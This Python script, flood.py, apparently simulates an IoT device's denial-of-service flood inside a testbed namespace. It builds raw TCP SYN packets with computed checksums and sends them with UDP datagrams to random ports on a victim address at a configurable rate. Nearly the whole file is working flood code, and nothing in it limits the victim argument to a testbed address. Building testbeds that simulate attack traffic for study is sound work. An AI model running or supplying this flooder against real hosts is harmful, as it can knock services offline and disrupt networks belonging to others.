"""An IoT device's flood, run in its namespace: TCP SYNs and UDP datagrams to the victim.

Usage: python3 -S -I flood.py SRC_IP VICTIM_IP PPS SECONDS
Half the packets are SYNs (raw socket, random source and destination ports), half are UDP
datagrams (random ports), paced in 10 ms slots. Stdlib only; sends only to VICTIM_IP, an
address inside the testbed the project created.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    """A TCP SYN segment (RFC 9293 header, checksum over the RFC 768-style pseudo-header)."""
    hdr = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, 20)
    return hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]


def main(src: str, dst: str, pps: int, seconds: float) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setblocking(False)
    raw.setblocking(False)
    per_slot = max(1, pps // 100)
    end = time.monotonic() + seconds
    slot = time.monotonic()
    sent = 0
    while time.monotonic() < end:
        for i in range(per_slot):
            try:
                if i % 2:
                    udp.sendto(b"x" * 64, (dst, random.randint(1024, 65535)))
                else:
                    raw.sendto(syn(src, dst, random.randint(1024, 65535),
                                   random.randint(1, 1023)), (dst, 0))
                sent += 1
            except OSError:
                pass  # a full queue: the flood goes on
        slot += 0.01
        time.sleep(max(0.0, slot - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
